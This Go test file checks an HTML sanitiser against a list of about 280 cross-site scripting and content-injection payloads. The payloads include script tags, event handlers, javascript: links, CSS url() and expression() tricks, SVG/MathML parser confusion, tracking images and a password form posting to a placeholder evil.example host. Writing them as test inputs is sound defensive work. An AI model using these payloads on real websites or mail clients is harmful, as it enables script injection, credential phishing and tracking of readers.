package page

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// forbidden finds in a page, parsed as a browser would, what must never be
// shown: an element, an attribute or an address; "" for nothing.
func forbidden(page string) string {
	root, err := html.Parse(strings.NewReader("<body>" + page))
	if err != nil {
		return err.Error()
	}
	for n := range root.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			return "a comment"
		case n.Type != html.ElementNode:
			continue
		case n.Data == "html" || n.Data == "head" || n.Data == "body":
			if len(n.Attr) > 0 {
				return "attributes of " + n.Data
			}
			continue
		case n.Namespace != "" || !shownElements[n.DataAtom]:
			return "<" + n.Data + ">"
		}
		for _, a := range n.Attr {
			if bad := forbiddenAttribute(n.Data, a.Key, a.Val); bad {
				return n.Data + " " + a.Key + "=" + a.Val
			}
		}
	}
	return ""
}

func forbiddenAttribute(element, key, value string) bool {
	low := strings.ToLower(value)
	switch key {
	case "href":
		return element != "a" || !strings.HasPrefix(low, "http://") && !strings.HasPrefix(low, "https://") && !strings.HasPrefix(low, "mailto:")
	case "src":
		return element != "img" || !strings.HasPrefix(low, "cid:") && !strings.HasPrefix(low, "data:image/png;base64,") &&
			!strings.HasPrefix(low, "data:image/jpeg;base64,") && !strings.HasPrefix(low, "data:image/gif;base64,") &&
			!strings.HasPrefix(low, "data:image/webp;base64,")
	case "style":
		return strings.ContainsAny(low, `\@<>{}&"'/*`) || strings.Contains(low, "url(") || strings.Contains(low, "expression") ||
			strings.Contains(low, "position:") || strings.Contains(low, "z-index") || strings.Contains(low, "var(")
	case "target":
		return value != "_blank"
	case "rel":
		return !strings.Contains(value, "nofollow") || !strings.Contains(value, "noreferrer")
	}
	return !keptAttributes[key]
}

// attacks are pages that would run a script, fetch something, take words from
// the reader or leave their place (T68–T70, F11). evil.example must not be
// fetched, and "alert" must not stand anywhere but in text.
var attacks = strings.Split(strings.TrimSpace(`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script/x>
<script
>alert(1)</script
>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script>alert(1)
<scr\x00ipt>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x OnErRoR = alert(1)>
<img/src=x/onerror=alert(1)>
<img src="cid:1" onload="alert(1)">
<img src=x:x onerror\x0c=alert(1)>
<img src='x' alt='"><script>alert(1)</script>'>
<img alt='<img src=x onerror=alert(1)>' src=http://evil.example/1>
<img src=http://evil.example/1.gif>
<img src=//evil.example/1.gif>
<img src=https://evil.example/1.gif width=1 height=1>
<img srcset="http://evil.example/1 1x">
<img src="cid:1" srcset="http://evil.example/1 1x">
<img lowsrc=http://evil.example/1>
<img dynsrc=http://evil.example/1>
<img longdesc=http://evil.example/1 src=cid:1>
<img src=cid:1 usemap="#m"><map name=m><area href=javascript:alert(1)></map>
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="data:text/html;base64,PHNjcmlwdD4=">
<img src="data:image/png,<script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src="cid:x&quot; onerror=&quot;alert(1)">
<img src="file:///etc/passwd">
<img src="\\\\evil.example\\share\\1.png">
<image src=http://evil.example/1>
<picture><source srcset=http://evil.example/1><img src=http://evil.example/2></picture>
<input type=image src=http://evil.example/1>
<body background=http://evil.example/1>
<body onload=alert(1)>
<table background=http://evil.example/1><tr background=http://evil.example/2><td background=http://evil.example/3>x
<a href=javascript:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#0000106avascript&colon;alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="javascript&NewLine;:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:image/png;base64,AAAA">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example/">x</a>
<a href="/cases/1/delete">x</a>
<a href="?close=1">x</a>
<a href="#top">x</a>
<a href="smb://evil.example/">x</a>
<a href="ms-word:ofe|u|http://evil.example/">x</a>
<a href="search-ms:query=x">x</a>
<a href="blob:http://evil.example/">x</a>
<a href="view-source:http://evil.example">x</a>
<a href="http:alert(1)">x</a>
<a href="https://x.example" ping=http://evil.example/>x</a>
<a href="https://x.example" target=_top rel=opener>x</a>
<a href="https://x.example" onclick=alert(1) onmouseover=alert(2)>x</a>
<a href="https://x.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>
<a href="https://x.example/\x22 onclick=alert(1) x=\x22">x</a>
<a href="https://x.example/" download>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<area href=javascript:alert(1)>
<base href=http://evil.example/>
<base target=_top>
<link rel=stylesheet href=http://evil.example/x.css>
<link rel=prefetch href=http://evil.example/>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=http://evil.example/">
<meta http-equiv=set-cookie content="a=b">
<style>@import 'http://evil.example/x.css';</style>
<style>body{background:url(http://evil.example/1)}</style>
<style>input[value^=a]{background:url(http://evil.example/a)}</style>
<style><img src=x onerror=alert(1)></style>
<style></style><img src=x onerror=alert(1)>
<div style="background:url(http://evil.example/1)">x</div>
<div style="background-image:url('http://evil.example/1')">x</div>
<div style="background:u\72l(http://evil.example/1)">x</div>
<div style="background:url&lpar;http://evil.example/1)">x</div>
<div style="list-style:url(http://evil.example/1)">x</div>
<div style="list-style-image:url(http://evil.example/1)">x</div>
<div style="cursor:url(http://evil.example/1),auto">x</div>
<div style="content:url(http://evil.example/1)">x</div>
<div style="border-image:url(http://evil.example/1) 1">x</div>
<div style="filter:url(http://evil.example/1#a)">x</div>
<div style="mask:url(http://evil.example/1)">x</div>
<div style="background:image-set('http://evil.example/1' 1x)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="width:e/**/xpression(alert(1))">x</div>
<div style="behavior:url(http://evil.example/x.htc)">x</div>
<div style="-moz-binding:url(http://evil.example/x.xml#a)">x</div>
<div style="position:fixed;inset:0;z-index:9999">x</div>
<div style="POSITION : absolute; top:0">x</div>
<div style="position:/**/fixed">x</div>
<div style="margin:-100px 0 0 -100px">x</div>
<div style="color:red;}body{display:none">x</div>
<div style="font-family:'a;background:url(http://evil.example/1)'">x</div>
<div style="--x:url(http://evil.example/1);background:var(--x)">x</div>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<div style="transition:all 1s;transform:scale(100)">x</div>
<div style="color:rgb(url(http://evil.example/1))">x</div>
<div style='color:red"onclick="alert(1)'>x</div>
<form action=http://evil.example/><input name=password type=password><button>go</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<select onchange=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<textarea><script>alert(1)</script></textarea>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<iframe src=http://evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)>
<frameset><frame src=javascript:alert(1)></frameset>
<object data=http://evil.example/x.swf></object>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src=http://evil.example/x.swf>
<applet code=x.class codebase=http://evil.example/></applet>
<param name=movie value=http://evil.example/>
<video src=http://evil.example/1 poster=http://evil.example/2 onerror=alert(1)></video>
<audio src=http://evil.example/1 onerror=alert(1)></audio>
<video><source onerror=alert(1)></video>
<track src=http://evil.example/>
<bgsound src=http://evil.example/>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href=http://evil.example/1></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><animate onbegin=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math href=javascript:alert(1)>x</math>
<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><img src=x onerror=alert(1)></xmp>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<title><p title="</title><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?>
<!DOCTYPE html [<!ENTITY x SYSTEM "http://evil.example/">]>
<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<x onclick=alert(1) tabindex=1 onfocus=alert(1) id=x>x</x>
<x-element is=x-y>x</x-element>
<p onclick=alert(1) onpointerenter=alert(1) oncontentvisibilityautostatechange=alert(1)>x</p>
<p contenteditable oninput=alert(1)>x</p>
<p id=cookie name=body class=btn-close data-action=close accesskey=x tabindex=-1 draggable=true>x</p>
<p slot=x part=y itemprop=z nonce=q popover popovertarget=x>x</p>
<font color="red;background:url(http://evil.example/1)">x</font>
<td width="1 onclick=alert(1)">x</td>
<blockquote cite=javascript:alert(1)>x</blockquote>
<q cite=http://evil.example/>x</q>
<ins cite=javascript:alert(1)>x</ins>
<b/onmouseover=alert(1)//>x
<b "<script>alert(1)</script>">x</b>
<p title='</p><script>alert(1)</script>'>x
<a href='https://x.example' title="><img src=x onerror=alert(1)>">x</a>
</div></div></body></html><script>alert(1)</script>
<div><table><td></div></table></td><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<a href="java	script:alert(1)">x</a>
<a href="//evil.example\@x.example">x</a>
<a href="https:/\evil.example">x</a>
<a href="https:\\evil.example">x</a>
<a href="https:///evil.example">x</a>
<a href="mailto:a@b.example?attach=/etc/passwd">x</a>
<a href="mailto:javascript:alert(1)">x</a>
<a href="http://[::1]%0d%0a/">x</a>
<a href="https://x.example/%22onclick=alert(1)">x</a>
<a href="https://x.example/&quot;onclick=alert(1)">x</a>
<a href='https://x.example/"><script>alert(1)</script>'>x</a>
<a href="ｊavascript:alert(1)">x</a>
<a href="jar:https://x.example!/">x</a>
<a href="about:blank">x</a>
<a href="intent://x#Intent;end">x</a>
<a href="ftp://evil.example/">x</a>
<a href="https://x.example" attributionsrc=http://evil.example>x</a>
<a href="https://x.example" href="javascript:alert(1)">x</a>
<a HREF=javascript:alert(1) href=https://x.example>x</a>
<a href="https://x.example" target="evil" rel="opener">x</a>
<a href="https://x.example" hreflang="&quot; onclick=alert(1)" type="text/html">x</a>
<img src="cid:x" crossorigin referrerpolicy=unsafe-url fetchpriority=high loading=eager>
<img src="cid:x@y/../../evil">
<img src="cid:javascript:alert(1)">
<img src="data:image/png;base64,AAAA" onerror=alert(1)>
<img src="data:image/svg+xml;charset=utf8;base64,AAAA">
<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">
<img src="data:image/png;x=y;base64,AAAA">
<img src="DATA:IMAGE/SVG+XML;base64,AAAA">
<img src="data:,x">
<img src="cid:a" src="http://evil.example/1">
<img src="http://evil.example/1" src="cid:a">
<img alt="]<script>alert(1)</script>" src=http://evil.example/>
<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=http://evil.example/>
<img srcset="cid:1 1x, http://evil.example/1 2x" src=cid:1 sizes=100vw>
<img src="cid:1" style="background:url(http://evil.example/)">
<img src="cid:1" style="content:url(http://evil.example/)">
<div style="background:red url(&#104;ttp://evil.example/)">x</div>
<div style="background: URL('//evil.example')">x</div>
<div style="background:\75\72\6c(http://evil.example)">x</div>
<div style="background:ur/**/l(http://evil.example)">x</div>
<div style="background:cross-fade(url(http://evil.example),red)">x</div>
<div style="background:-webkit-image-set(url(http://evil.example) 1x)">x</div>
<div style="background:element(#x)">x</div>
<div style="background:attr(data-x url)">x</div>
<div style="background:paint(x)">x</div>
<div style="background:src('http://evil.example')">x</div>
<div style="color:rgb(0,0,0)url(http://evil.example)">x</div>
<div style="color:red;color:RGB(1,2,3;position:fixed">x</div>
<div style="width:calc(100vw + 1px)">x</div>
<div style="font:1em x;font-face:y;src:url(http://evil.example)">x</div>
<div style="@import 'http://evil.example'">x</div>
<div style="</style><script>alert(1)</script>">x</div>
<div style="margin:-9999px;top:-10px;position:sticky">x</div>
<div style="margin: - 9px;margin-top:--9px">x</div>
<div style="display:inline;inset:0;position:absolute">x</div>
<div style="pointer-events:none;opacity:.01">x</div>
<div style="color:red;&#59;background:url(http://evil.example)">x</div>
<div style='color:&quot;};*{background:url(http://evil.example)'>x</div>
<p id=location name=body class="btn btn-danger" data-action="click->x#y">x</p>
<form name=document><input name=cookie></form>
<p contenteditable autofocus onfocus=alert(1) tabindex=0 accesskey=x>x</p>
<p is=x-foo slot=x part=x exportparts=x nonce=x>x</p>
<p popover popovertarget=x onbeforetoggle=alert(1)>x</p>
<p title="<script>alert(1)</script>">x</p>
<p itemscope itemid=javascript:alert(1)>x</p>
<p hx-get=http://evil.example hx-trigger=load>x</p>
<p x-data="alert(1)" v-html="alert(1)" ng-app>{{constructor.constructor('alert(1)')()}}</p>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><style>@import 'http://evil.example'</style></template>
<slot onslotchange=alert(1)>x</slot>
<portal src=http://evil.example></portal>
<fencedframe src=http://evil.example></fencedframe>
<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg/><script>alert(1)</script>
<svg><p/><script>alert(1)</script>
<math/><div hidden/>#close
<math><div hidden/>#close
<svg><div hidden/>#close</svg>
<svg></svg/><img src=x onerror=alert(1)>
<svg><desc><p hidden>#close
<svg><![CDATA[><img src=x onerror=alert(1)>]]>
<math><![CDATA[</math><script>alert(1)</script>]]>
<select><style><img src=x onerror=alert(1)></style></select>
<select><template><script>alert(1)</script></template></select>
<option><style></option></select><img src=x onerror=alert(1)></style>
<table><colgroup><script>alert(1)</script></colgroup></table>
<table><caption><svg><title><style><img src=x onerror=alert(1)></style></table>
<frameset onload=alert(1)><frame src=x></frameset>
<textarea></textarea><script>alert(1)</script>
<textarea><!--</textarea><img src=x onerror=alert(1)>-->
<title><!--</title><img src=x onerror=alert(1)>-->
<style><!--</style><img src=x onerror=alert(1)>-->
<script><!--<script></script>--><img src=x onerror=alert(1)></script>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<xmp></xmp/><img src=x onerror=alert(1)>
<plaintext></plaintext><script>alert(1)</script>
<listing>
<script>alert(1)</script></listing>
<!--><script>alert(1)</script>-->
<!--x--!><script>alert(1)</script>
<!-- --- --><script>alert(1)</script>
<?xml <script>alert(1)</script>?>
<?xml-stylesheet href="http://evil.example"?>
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY y SYSTEM "http://evil.example">]>&y;
<!--[if gte mso 9]><script>alert(1)</script><![endif]-->
<![if true]><script>alert(1)</script><![endif]>
</p/onclick=alert(1)>
</a onmouseover=alert(1)>x
<a
onclick=alert(1)
>x</a>
<p/onclick=alert(1)/style=color:red>x
<p """onclick=alert(1)>x
<p a="b"onclick=alert(1)>x
<p =onclick=alert(1)>x
<p 'onclick=alert(1)'x>y
<scrİpt>alert(1)</scrİpt>
<ſcript>alert(1)</ſcript>
<img src="http://evil.example/?
<img alt="<p>" src="http://evil.example/?'
<table><td><a href="https://evil.example/?
<base href="http://evil.example"><a href="x">y</a>
<meta http-equiv="Content-Security-Policy" content="img-src *"><link rel=preload as=image href=http://evil.example>
<link rel=icon href=http://evil.example><link rel=preconnect href=http://evil.example>
<bgsound src=http://evil.example><layer src=http://evil.example></layer><ilayer src=http://evil.example></ilayer>
<xml id=x src=http://evil.example></xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<v:rect><v:fill src="http://evil.example/1" /></v:rect><v:imagedata src=http://evil.example>
<body background=http://evil.example text=red><table background=http://evil.example>
<blockquote cite=http://evil.example>x</blockquote><q cite=javascript:alert(1)>x</q><del cite=http://evil.example>x</del>
<ins datetime=x cite=javascript:alert(1)>x</ins><time datetime="onx">x</time>
<font face="x;background:url(http://evil.example)" size="7&quot;" color="red;x">x</font>
<td width="100%;x" height=expression(alert(1)) bgcolor="url(http://evil.example)">x
<td colspan=99999999 rowspan=-1>x
<ol start=99999999999 type="javascript:alert(1)"><li value=-1>x
<p align="javascript:alert(1)" dir="&quot;x" lang="x&quot;onclick=alert(1)">x
`), "\n")

func TestSanitizeAttacks(t *testing.T) {
	if len(attacks) < 280 {
		t.Fatalf("%d attacks, want at least 280", len(attacks))
	}
	raw := strings.NewReplacer(`\x00`, "\x00", `\x01`, "\x01", `\x0c`, "\x0c", `\x22`, `"`)
	for _, attack := range append(attacks, strings.Join(attacks, "\n")) {
		got := Sanitize(raw.Replace(attack))
		if bad := forbidden(got); bad != "" {
			t.Errorf("%.200q is shown as %.500q, which holds %s (F11)", attack, got, bad)
		}
		if again := Sanitize(got); again != got {
			t.Errorf("%.200q is shown as %.500q, and sanitised again as %.500q", attack, got, again)
		}
	}
}

// TestForbidden is the control: harm that was left in must be found.
func TestForbidden(t *testing.T) {
	for _, page := range []string{
		"<script>alert(1)</script>", "<p onclick=alert(1)>x", `<a href="javascript:alert(1)">x</a>`, "<img src=http://evil.example/1>",
		`<img src="data:image/svg+xml;base64,AAAA">`, `<p style="background:url(http://evil.example)">x`, `<p style="position: fixed">x`,
		"<form>x</form>", "<svg></svg>", "<!-- x -->", "<p id=x>x", `<a href="https://x.example" target=_top>x</a>`, "<base href=x>", "<style>x</style>",
	} {
		if forbidden(page) == "" {
			t.Errorf("nothing forbidden is found in %q", page)
		}
	}
}

func TestSanitize(t *testing.T) {
	const rel = ` rel="nofollow noreferrer noopener"`
	tests := []struct{ name, in, want string }{
		{"text", "a < b & c", "a &lt; b &amp; c"},
		{"elements", "<p>a<b>b</b><br></p>", "<p>a<b>b</b><br></p>"},
		{"ends that are missing", "<div><p>a<p>b<ul><li>c<li>d", "<div><p>a</p><p>b</p><ul><li>c</li><li>d</li></ul></div>"},
		{"ends of nothing", "a</div></td></p>b", "ab"},
		{"ends that cross", "<b><i>a</b>b</i>", "<b><i>a</i></b>b"},
		{"a whole page", "<html><head><title>t</title></head><body bgcolor=red><p>a</p></body></html>", "<p>a</p>"},
		{"links", `<a href="https://x.example/?a=1&b=2" class=c>a</a>`, `<a href="https://x.example/?a=1&amp;b=2"` + strings.Replace(rel, " rel", " rel", 1) + ` target="_blank">a</a>`},
		{"styles", `<p style="COLOR:#FF0000;font-family:'Segoe UI', sans-serif !important;position:fixed;mso-x:1">a</p>`, `<p style="color: #ff0000; font-family: segoe ui, sans-serif">a</p>`},
		{"colours", `<p style="color:rgb(1, 2, 3);background:rgba(0,0,0,.5)">a</p>`, `<p style="color: rgb(1, 2, 3); background: rgba(0,0,0,.5)">a</p>`},
		{"pictures", `<img src="cid:a@b" alt=x width=10><img src="data:image/png;base64,iVBO
Rw==">`, `<img src="cid:a@b" alt="x" width="10"><img src="data:image/png;base64,iVBORw==">`},
		{"pictures from elsewhere", `<img src=https://evil.example/1 alt="Our house"><img src=https://evil.example/2>`, `[Our house]`},
		{"tables and fonts", `<table border=1 cellpadding=2 background=x><tr><td colspan=2 bgcolor="#eee"><font color=red size="+1" face="Arial">a</font></table>`,
			`<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#eee"><font color="red" face="Arial">a</font></td></tr></table>`},
		{"what is hidden", `<style>.h{display:none}</style><p class=h>a</p><p style="display:none">b</p>c`, `c`},
		{"forms", `<form action=x>a<input value=b><button>c</button></form>`, `<div>abc</div>`},
		{"forms that were filled in", `<input value="a<b>" type=text><input type=hidden value=x><input type=password value=x>`, `a&lt;b&gt;`},
		{"parts of forms", `<fieldset><legend>a</legend>b<select><option>c<option>d</select></fieldset>`, `<div><div>a</div>b<div>c</div><div>d</div></div>`},
		{"what folds", `<details><summary>a</summary>b</details>`, `<div><div>a</div>b</div>`},
		{"plain text", "<xmp><b>a</b>\n b</xmp><menu><li>c</menu>", "<pre>&lt;b&gt;a&lt;/b&gt;\n b</pre><ul><li>c</li></ul>"},
		{"too many elements", strings.Repeat("<br>", maxWritten) + "<p>a<p>b", strings.Repeat("<br>", maxWritten) + " a b"},
		{"nothing", "", ""},
	}
	for _, tt := range tests {
		if got := Sanitize(tt.in); got != tt.want {
			t.Errorf("%s: %q is shown as\n%s\nwant\n%s", tt.name, tt.in, got, tt.want)
		}
	}
}
